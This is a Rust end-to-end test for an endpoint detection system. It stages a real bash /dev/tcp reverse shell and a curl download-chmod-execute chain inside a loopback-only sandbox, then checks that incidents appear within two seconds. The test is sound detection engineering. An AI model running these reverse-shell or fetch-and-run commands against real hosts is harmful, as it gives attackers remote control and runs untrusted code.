//! Detection end to end, with real attacks: the agent's sensors, the
//! collector's detection engine and incidents, and `ztctl --json` as the
//! SOC uses it (issue 8: "a real reverse shell and a real
//! download-and-execute raise incidents visible through `ztctl --json`
//! within 2 s").
//!
//! Everything the attacks do runs in a test cgroup and in a network
//! namespace of their own with nothing but loopback; the "attacker" (a
//! listener, a web server) is a python3 process in the same namespace.
//!
//! 1. Benign look-alikes first: `bash -c 'echo ... > /dev/null'`, and a
//!    download → chmod → exec of a file *outside* /tmp. They must be stored
//!    (found by `ztctl events search`) before the attacks start, so the
//!    detection engine has seen them when the attacks' incidents appear.
//! 2. Reverse shell: `bash -c 'bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1'`
//!    connects to the listener, which sends a command and reads its output
//!    back; incident `reverse-shell-dev-tcp` (critical, T1059.004) within
//!    2 s of the exec, with the bash exec among its events and in its
//!    process tree.
//! 3. Download and execute: `curl -o /tmp/<marker>`, `chmod +x`, run it;
//!    incident `download-exec-tmp` (high, T1105) within 2 s, and `ztctl
//!    events search --text <marker>` finds the write and the exec.
//! 4. No incident of the reverse-shell and download rules names the benign
//!    runs.
//!
//! Latency: measured from just before the victim is spawned to the first
//! `ztctl incidents list --json` that returns the incident, and also to
//! the first `ztctl incidents show --json` that has the exec among its
//! events (the collector stores the links to an incident's events before
//! the incident's row, so both are normally the same poll); both must be
//! within 2 s. The breakdown (kernel exec time → incident
//! grouped in the collector → visible) is printed. The stack's agent flushes its uplink batches after 100 ms
//! (`ZT_AGENT_UPLINK__BATCH_MAX_DELAY_MS`, default 250) and the collector's
//! batch writer after 200 ms (`ZT_COLLECTOR_BATCH__MAX_DELAY_MS`).

use std::{
    io::{BufRead as _, Read as _},
    path::{Path, PathBuf},
    process::{Child, ExitStatus, Stdio},
    sync::mpsc,
    time::{Duration, Instant, SystemTime, UNIX_EPOCH},
};

use anyhow::{bail, ensure, Context as _, Result};
use serde_json::Value;
use zt_e2e::{
    cgroup::TestCgroup,
    netns::LoopbackNetns,
    stack::{marker_for, Stack, TEST_ORG},
    ztctl::ZtctlUser,
};

/// What the issue asks: exec → incident visible through `ztctl --json`.
const LATENCY_BUDGET: Duration = Duration::from_secs(2);
/// Fail-safe bound of every wait (processes, incidents, events).
const WAIT: Duration = Duration::from_secs(10);
/// The rules the benign runs must not raise.
const ATTACK_RULES: [&str; 4] = [
    "reverse-shell-dev-tcp",
    "reverse-shell-after-connect",
    "download-exec-tmp",
    "download-piped-to-shell",
];

/// The attacker's end of a reverse shell: listens on 127.0.0.1 (port
/// printed), sends argv[1] to the first connection and prints everything
/// it gets back until the shell hangs up. Every step times out.
const LISTENER: &str = r#"
import socket, sys
srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(1)
srv.settimeout(10)
print(srv.getsockname()[1], flush=True)
conn, _ = srv.accept()
conn.settimeout(10)
conn.sendall(sys.argv[1].encode())
got = b""
while True:
    chunk = conn.recv(4096)
    if not chunk:
        break
    got += chunk
sys.stdout.write(got.decode(errors="replace"))
"#;

/// A web server on 127.0.0.1 (port printed) that answers argv[1] GETs
/// with the body in `$ZT_E2E_PAYLOAD`, then exits; each wait for a
/// request times out. (The payload is not passed in argv: a python
/// command line naming `socket…` and `/bin/sh` is what rule
/// `reverse-shell-interpreter` looks for.)
const PAYLOAD_SERVER: &str = r#"
import http.server, os, socketserver, sys
body = os.environ["ZT_E2E_PAYLOAD"].encode()
class Payload(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "application/octet-stream")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args):
        pass
srv = socketserver.TCPServer(("127.0.0.1", 0), Payload)
srv.timeout = 10
print(srv.server_address[1], flush=True)
for _ in range(int(sys.argv[1])):
    srv.handle_request()
"#;

/// A child process killed (and reaped) when dropped, on every path.
struct Guarded {
    child: Child,
    /// Its stdout from the second line on, once [`Guarded::first_line`]
    /// has taken the pipe.
    rest: Option<mpsc::Receiver<String>>,
}

impl Guarded {
    fn pid(&self) -> u32 {
        self.child.id()
    }

    /// Reads the first line of its stdout (e.g. the port it listens on),
    /// within `limit`; the rest is kept for [`Guarded::finish`].
    fn first_line(&mut self, limit: Duration) -> Result<String> {
        let stdout = self.child.stdout.take().context("stdout not piped")?;
        let (line_tx, line_rx) = mpsc::channel();
        let (rest_tx, rest_rx) = mpsc::channel();
        std::thread::spawn(move || {
            let mut reader = std::io::BufReader::new(stdout);
            let mut line = String::new();
            let read = reader.read_line(&mut line).map(|_| line);
            let _ = line_tx.send(read);
            let mut rest = String::new();
            let _ = reader.read_to_string(&mut rest);
            let _ = rest_tx.send(rest);
        });
        self.rest = Some(rest_rx);
        let line = line_rx
            .recv_timeout(limit)
            .context("no first line on stdout in time")??;
        Ok(line.trim().to_owned())
    }

    /// Waits for it to exit within `limit` (killed otherwise) and returns
    /// its status and stdout (what is left of it, when piped).
    fn finish(&mut self, limit: Duration) -> Result<(ExitStatus, String)> {
        let reader = self.rest.take().or_else(|| {
            self.child.stdout.take().map(|mut stdout| {
                let (tx, rx) = mpsc::channel();
                std::thread::spawn(move || {
                    let mut out = String::new();
                    let _ = stdout.read_to_string(&mut out);
                    let _ = tx.send(out);
                });
                rx
            })
        });
        let deadline = Instant::now() + limit;
        let status = loop {
            if let Some(status) = self.child.try_wait()? {
                break status;
            }
            if Instant::now() >= deadline {
                let _ = self.child.kill();
                let _ = self.child.wait();
                bail!("pid {} did not finish within {limit:?}", self.pid());
            }
            std::thread::sleep(Duration::from_millis(10));
        };
        let out = match reader {
            Some(rx) => rx
                .recv_timeout(deadline.saturating_duration_since(Instant::now()))
                .unwrap_or_default(),
            None => String::new(),
        };
        Ok((status, out))
    }
}

impl Drop for Guarded {
    fn drop(&mut self) {
        if self.child.try_wait().ok().flatten().is_none() {
            let _ = self.child.kill();
            let _ = self.child.wait();
        }
    }
}

/// A file removed when dropped.
struct RemoveOnDrop(PathBuf);

impl Drop for RemoveOnDrop {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

/// Where the attacks run: a test cgroup and a loopback-only namespace,
/// with an empty home directory (the machine's own shell start-up files,
/// e.g. a pyenv init that waits on a stale lock, are not the test's).
struct Sandbox {
    cgroup: TestCgroup,
    netns: LoopbackNetns,
    home: tempfile::TempDir,
}

impl Sandbox {
    /// Starts `program args` in the sandbox, stdin null, stderr inherited.
    fn spawn(&self, program: &str, args: &[&str], stdout: Stdio) -> Result<Guarded> {
        self.spawn_with(program, args, &[], stdout)
    }

    /// [`Sandbox::spawn`] with extra environment.
    fn spawn_with(
        &self,
        program: &str,
        args: &[&str],
        envs: &[(&str, &str)],
        stdout: Stdio,
    ) -> Result<Guarded> {
        let mut command = self.netns.command_in_cgroup(&self.cgroup, program)?;
        command
            .args(args)
            .env("HOME", self.home.path())
            .env("HISTFILE", "")
            .envs(envs.iter().copied())
            .stdin(Stdio::null())
            .stdout(stdout);
        let child = command
            .spawn()
            .with_context(|| format!("starting {program} in the sandbox"))?;
        Ok(Guarded { child, rest: None })
    }

    /// Starts python3 with `code` and waits for the port it prints.
    fn server(&self, code: &str, args: &[&str], envs: &[(&str, &str)]) -> Result<(Guarded, u16)> {
        let mut all = vec!["-c", code];
        all.extend_from_slice(args);
        let mut server = self.spawn_with("/usr/bin/python3", &all, envs, Stdio::piped())?;
        let line = server.first_line(WAIT)?;
        let port = line
            .parse()
            .with_context(|| format!("server printed {line:?}, not a port"))?;
        Ok((server, port))
    }
}

fn now_ns() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map_or(0, |d| d.as_nanos() as u64)
}

/// Nanoseconds since the epoch of an RFC 3339 UTC time as the query API
/// prints it (`2026-04-10T09:15:02.123456789Z`).
fn parse_rfc3339_ns(text: &str) -> Option<u64> {
    let text = text.strip_suffix('Z')?;
    let (date, time) = text.split_once('T')?;
    let mut d = date.split('-').map(|p| p.parse::<i64>().ok());
    let (y, m, day) = (d.next()??, d.next()??, d.next()??);
    let (hms, frac) = time.split_once('.').unwrap_or((time, ""));
    let mut t = hms.split(':').map(|p| p.parse::<u64>().ok());
    let (h, min, s) = (t.next()??, t.next()??, t.next()??);
    let nanos: u64 = if frac.is_empty() {
        0
    } else {
        format!("{frac:0<9}").get(..9)?.parse().ok()?
    };
    // Days from the civil date (Howard Hinnant's algorithm).
    let y = if m <= 2 { y - 1 } else { y };
    let era = y.div_euclid(400);
    let yoe = y - era * 400;
    let mp = (m + 9) % 12;
    let doy = (153 * mp + 2) / 5 + day - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    let days = u64::try_from(era * 146_097 + doe - 719_468).ok()?;
    Some(((days * 86_400 + h * 3600 + min * 60 + s) * 1_000_000_000) + nanos)
}

fn str_of<'a>(v: &'a Value, field: &str) -> &'a str {
    v[field].as_str().unwrap_or_default()
}

fn argv_of(v: &Value) -> Vec<String> {
    v["argv"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|s| s.as_str().map(str::to_owned))
                .collect()
        })
        .unwrap_or_default()
}

/// Whether an event (or process node) mentions `needle` in its command
/// line, executable or path.
fn mentions(event: &Value, needle: &str) -> bool {
    argv_of(event).iter().any(|a| a.contains(needle))
        || ["exe", "path", "target_path"]
            .iter()
            .any(|f| str_of(event, f).contains(needle))
}

fn events_of(detail: &Value) -> &[Value] {
    detail["events"].as_array().map_or(&[], Vec::as_slice)
}

/// An incident that became visible, and when.
struct Seen {
    incident: Value,
    detail: Value,
    /// Wall clock (ns) when the `incidents list` call that returned it
    /// had finished.
    visible_ns: u64,
    /// Since the victim was spawned.
    latency: Duration,
    /// Since the victim was spawned, until `incidents show` had the event
    /// too (the collector stores an incident's event links before the
    /// incident, so this is the same poll unless the rule already had an
    /// incident of other activity on this machine).
    complete: Duration,
}

/// Polls `ztctl incidents list --rule RULE --json` (bounded by [`WAIT`])
/// until it returns an incident whose `incidents show` has an event that
/// `ours` accepts; the machine's other activity is seen by the agent too,
/// so an incident of the rule is not necessarily this test's.
fn wait_for_incident(
    analyst: &ZtctlUser,
    rule: &str,
    since: Instant,
    ours: impl Fn(&Value) -> bool,
) -> Result<Seen> {
    let deadline = since + WAIT;
    // When the incident first appeared in the list, and what `show` said
    // about it the last time, for the report.
    let mut first_listed: Option<(Duration, u64, usize)> = None;
    let mut last_details: Vec<Value> = Vec::new();
    loop {
        let list = analyst.json(&["incidents", "list", "--rule", rule, "--json"])?;
        let listed = (since.elapsed(), now_ns());
        last_details.clear();
        for incident in list.as_array().context("incidents list: not an array")? {
            let id = str_of(incident, "id");
            let detail = analyst.json(&["incidents", "show", id, "--json"])?;
            let complete = since.elapsed();
            if events_of(&detail).iter().any(&ours) {
                let (latency, visible_ns) = match first_listed {
                    Some((latency, visible_ns, events)) => {
                        println!(
                            "note: {rule} incident {id} was listed {:.1} ms before \
                             `incidents show` had this test's event (it showed {events} \
                             events then)",
                            (listed.0 - latency).as_secs_f64() * 1e3
                        );
                        (latency, visible_ns)
                    }
                    None => listed,
                };
                return Ok(Seen {
                    incident: incident.clone(),
                    detail,
                    visible_ns,
                    latency,
                    complete,
                });
            }
            last_details.push(detail);
        }
        // The first listing of an incident of this rule that turns out to
        // be this test's is when it became visible.
        if first_listed.is_none() && !last_details.is_empty() {
            let events = last_details.iter().map(|d| events_of(d).len()).sum();
            first_listed = Some((listed.0, listed.1, events));
        }
        if Instant::now() >= deadline {
            bail!(
                "no incident of {rule} for this test's events within {WAIT:?}: {list:#}\n\
                 incidents show said: {last_details:#?}"
            );
        }
        std::thread::sleep(Duration::from_millis(25));
    }
}

/// The first version of an incident: when the collector grouped it.
async fn grouped_ns(stack: &Stack, id: &str) -> Result<u64> {
    Ok(stack
        .db()
        .query("SELECT min(updated_ns) FROM incidents WHERE incident_id = ?")
        .bind(id)
        .fetch_one::<u64>()
        .await?)
}

/// An incident that became visible after its victim was started.
struct Timed {
    what: &'static str,
    seen: Seen,
    /// Wall clock (ns) just before the victim was spawned.
    t0_ns: u64,
    /// The exec's time as the agent reported it (kernel clock, in ns since
    /// the epoch).
    exec_ns: Option<u64>,
}

impl Timed {
    /// Prints where the time went: victim spawned → exec (kernel) →
    /// incident grouped in the collector (its first version) → visible
    /// through `ztctl incidents list --json`.
    async fn report(&self, stack: &Stack) -> Result<()> {
        let id = str_of(&self.seen.incident, "id");
        let grouped = grouped_ns(stack, id).await?;
        let ms = |a: u64, b: u64| (b as f64 - a as f64) / 1e6;
        let from_exec = |to: u64| {
            self.exec_ns
                .map_or("?".to_owned(), |e| format!("{:.1}", ms(e, to)))
        };
        println!(
            "{}: incident {id} visible {:.1} ms after the victim was spawned, \
             with its events {:.1} ms (spawn → exec +{} ms; exec → grouped by the \
             collector +{} ms; grouped → visible through ztctl +{:.1} ms; exec → \
             visible {} ms)",
            self.what,
            self.seen.latency.as_secs_f64() * 1e3,
            self.seen.complete.as_secs_f64() * 1e3,
            self.exec_ns
                .map_or("?".to_owned(), |e| format!("{:.1}", ms(self.t0_ns, e))),
            from_exec(grouped),
            ms(grouped, self.seen.visible_ns),
            from_exec(self.seen.visible_ns),
        );
        Ok(())
    }
}

fn hostname() -> Result<String> {
    Ok(std::fs::read_to_string("/proc/sys/kernel/hostname")?
        .trim()
        .to_owned())
}

fn check_incident(incident: &Value, severity: &str, technique: &str, host: &str) -> Result<()> {
    let mitre: Vec<&str> = incident["mitre"]
        .as_array()
        .map(|a| a.iter().filter_map(Value::as_str).collect())
        .unwrap_or_default();
    ensure!(
        str_of(incident, "severity") == severity
            && mitre.contains(&technique)
            && str_of(incident, "status") == "open"
            && str_of(incident, "host") == host
            && incident["count"].as_u64().unwrap_or(0) >= 1,
        "expected an open {severity} incident with {technique} on host {host}, count ≥ 1: {incident:#}"
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn real_reverse_shell_and_download_exec_raise_incidents_within_two_seconds() -> Result<()> {
    let stack = Stack::new("e2e_detect").await?;
    let _collector = stack.start_collector().await?;
    let _agent = stack.start_agent().await?;
    let result = attacks(&stack).await;
    if result.is_err() {
        eprintln!("{}", stack.logs());
    }
    result
}

async fn attacks(stack: &Stack) -> Result<()> {
    let host = hostname()?;
    let analyst = ZtctlUser::create(stack, TEST_ORG, "analyst-detect", "analyst")?;
    let sandbox = Sandbox {
        cgroup: TestCgroup::create("detect")?,
        netns: LoopbackNetns::create("detect")?,
        home: tempfile::Builder::new()
            .prefix("zt-e2e-home-")
            .tempdir_in(env!("CARGO_TARGET_TMPDIR"))?,
    };
    // Not under /tmp (the stack's own directory is): the benign download.
    // /var/lib is root's: never a world-writable place a checkout or a
    // target directory might live under.
    let outside_tmp = tempfile::Builder::new()
        .prefix("zt-e2e-detect-")
        .tempdir_in("/var/lib")?;

    // ── 1. Benign look-alikes ──────────────────────────────────────────
    let benign = marker_for("benign");
    let (status, _) = sandbox
        .spawn(
            "/bin/bash",
            &["-c", &format!("echo hello-{benign} > /dev/null")],
            Stdio::null(),
        )?
        .finish(WAIT)?;
    ensure!(status.success(), "benign bash failed: {status}");
    let benign_file = outside_tmp.path().join(&benign);
    let _benign_cleanup = RemoveOnDrop(benign_file.clone());
    let benign_payload = format!("#!/bin/sh\necho {benign}-ran-$((6*7))\n");
    let (mut server, port) = sandbox.server(
        PAYLOAD_SERVER,
        &["1"],
        &[("ZT_E2E_PAYLOAD", &benign_payload)],
    )?;
    let b = benign_file.display().to_string();
    let script = format!("curl -sf -o {b} http://127.0.0.1:{port}/payload && chmod +x {b} && {b}");
    let (status, out) = sandbox
        .spawn("/bin/sh", &["-c", &script], Stdio::piped())?
        .finish(WAIT)?;
    ensure!(
        status.success() && out.contains(&format!("{benign}-ran-42")),
        "benign download failed ({status}): {out:?}"
    );
    server.finish(WAIT)?;
    // Stored (and so handed to detection, in order) before the attacks.
    zt_e2e::eventually(WAIT, || async {
        let events = analyst
            .json(&[
                "events", "search", "--host", &host, "--text", &benign, "--json",
            ])
            .ok()?;
        let events = events.as_array()?;
        let execs = |exe: &str| {
            events
                .iter()
                .any(|e| str_of(e, "action") == "exec" && str_of(e, "exe") == exe)
        };
        (execs(&b) && execs("/bin/bash")).then_some(())
    })
    .await
    .context("the benign runs' execs were not stored")?;

    // ── 2. Reverse shell ───────────────────────────────────────────────
    let shell_marker = marker_for("rshell");
    let command = format!("echo {shell_marker}-$((6*7)); exit\n");
    let (mut listener, port) = sandbox.server(LISTENER, &[&command], &[])?;
    let dev_tcp = format!("/dev/tcp/127.0.0.1/{port}");
    let victim_script = format!("bash -i >& {dev_tcp} 0>&1");
    let t0_ns = now_ns();
    let t0 = Instant::now();
    let mut victim = sandbox.spawn("/bin/bash", &["-c", &victim_script], Stdio::null())?;
    let bash_pid = victim.pid();
    let ours = |e: &Value| {
        str_of(e, "action") == "exec"
            && e["pid"].as_u64() == Some(u64::from(bash_pid))
            && argv_of(e).iter().any(|a| a.contains(&dev_tcp))
    };
    let seen = wait_for_incident(&analyst, "reverse-shell-dev-tcp", t0, ours)?;
    let (_, answer) = listener.finish(WAIT)?;
    let (_, _) = victim.finish(WAIT)?;
    ensure!(
        answer.contains(&format!("{shell_marker}-42")),
        "the reverse shell did not run the attacker's command; the listener got {answer:?}"
    );
    check_incident(&seen.incident, "critical", "T1059.004", &host)?;
    let exec = events_of(&seen.detail)
        .iter()
        .find(|e| ours(e))
        .context("bash exec not among the incident's events")?;
    let exec_ns = parse_rfc3339_ns(str_of(exec, "time"));
    let tree = seen.detail["process_tree"]
        .as_array()
        .context("no process_tree")?;
    ensure!(
        tree.iter()
            .any(|n| n["pid"].as_u64() == Some(u64::from(bash_pid))
                && n["in_incident"].as_bool() == Some(true)),
        "bash {bash_pid} is not in the process tree as in_incident: {tree:#?}"
    );
    let reverse_shell = Timed {
        what: "reverse shell",
        seen,
        t0_ns,
        exec_ns,
    };

    // ── 3. Download and execute ────────────────────────────────────────
    let dl = marker_for("dl");
    let dropped = format!("/tmp/{dl}");
    let _dropped_cleanup = RemoveOnDrop(PathBuf::from(&dropped));
    let payload = format!("#!/bin/sh\necho {dl}-ran-$((6*7))\n");
    let (mut server, port) =
        sandbox.server(PAYLOAD_SERVER, &["1"], &[("ZT_E2E_PAYLOAD", &payload)])?;
    let script = format!(
        "curl -s -o {dropped} http://127.0.0.1:{port}/payload && chmod +x {dropped} && {dropped}"
    );
    let t0_ns = now_ns();
    let t0 = Instant::now();
    let mut victim = sandbox.spawn("/bin/sh", &["-c", &script], Stdio::piped())?;
    let ours = |e: &Value| str_of(e, "action") == "exec" && str_of(e, "exe") == dropped;
    let seen = wait_for_incident(&analyst, "download-exec-tmp", t0, ours)?;
    let (status, out) = victim.finish(WAIT)?;
    server.finish(WAIT)?;
    ensure!(
        status.success() && out.contains(&format!("{dl}-ran-42")),
        "the downloaded payload did not run ({status}): {out:?}"
    );
    check_incident(&seen.incident, "high", "T1105", &host)?;
    let exec = events_of(&seen.detail)
        .iter()
        .find(|e| ours(e))
        .context("payload exec not among the incident's events")?;
    let exec_ns = parse_rfc3339_ns(str_of(exec, "time"));
    for action in ["open_write", "chmod"] {
        ensure!(
            events_of(&seen.detail)
                .iter()
                .any(|e| str_of(e, "action") == action && str_of(e, "path") == dropped),
            "no {action} of {dropped} among the incident's events: {:#}",
            seen.detail["events"]
        );
    }
    let events = analyst.json(&["events", "search", "--host", &host, "--text", &dl, "--json"])?;
    let events = events.as_array().context("events search: not an array")?;
    ensure!(
        events.iter().any(|e| str_of(e, "kind") == "file"
            && str_of(e, "action") == "open_write"
            && str_of(e, "path") == dropped
            && str_of(e, "exe").ends_with("/curl")),
        "events search does not find curl's write of {dropped}: {events:#?}"
    );
    ensure!(
        events.iter().any(|e| str_of(e, "kind") == "process"
            && str_of(e, "action") == "exec"
            && str_of(e, "exe") == dropped),
        "events search does not find the exec of {dropped}: {events:#?}"
    );
    std::fs::remove_file(&dropped).with_context(|| format!("removing {dropped}"))?;
    let download = Timed {
        what: "download and execute",
        seen,
        t0_ns,
        exec_ns,
    };

    // Latencies, with where the time went. (Read from ClickHouse only now:
    // this test process connecting out and then starting a shell is the
    // shape `reverse-shell-after-connect` looks for.)
    for timed in [&reverse_shell, &download] {
        timed.report(stack).await?;
    }
    for timed in [&reverse_shell, &download] {
        ensure!(
            timed.seen.latency <= LATENCY_BUDGET,
            "{} incident visible {:?} after the victim started, over {LATENCY_BUDGET:?}",
            timed.what,
            timed.seen.latency
        );
        ensure!(
            timed.seen.complete <= LATENCY_BUDGET,
            "{} incident's events visible {:?} after the victim started, over {LATENCY_BUDGET:?}",
            timed.what,
            timed.seen.complete
        );
    }

    // ── 4. The benign runs raised nothing ──────────────────────────────
    let incidents = analyst.json(&["incidents", "list", "--json"])?;
    for incident in incidents.as_array().context("not an array")? {
        let rule = str_of(incident, "rule_id");
        let id = str_of(incident, "id");
        println!(
            "incident {id}: {rule} ({}), count {}",
            str_of(incident, "severity"),
            incident["count"]
        );
        let detail = analyst.json(&["incidents", "show", id, "--json"])?;
        for e in events_of(&detail) {
            println!(
                "  {} {} pid {} ppid {} {} {:?} {}",
                str_of(e, "kind"),
                str_of(e, "action"),
                e["pid"],
                e["ppid"],
                str_of(e, "exe"),
                argv_of(e),
                str_of(e, "path"),
            );
        }
        if !ATTACK_RULES.contains(&rule) {
            continue;
        }
        let named: Vec<&Value> = events_of(&detail)
            .iter()
            .filter(|e| mentions(e, &benign))
            .collect();
        ensure!(
            named.is_empty(),
            "benign runs raised {rule} (incident {id}): {named:#?}"
        );
    }
    drop(sandbox);
    ensure_removed(&benign_file)?;
    Ok(())
}

fn ensure_removed(path: &Path) -> Result<()> {
    match std::fs::remove_file(path) {
        Ok(()) => Ok(()),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(()),
        Err(e) => Err(e).with_context(|| format!("removing {}", path.display())),
    }
}
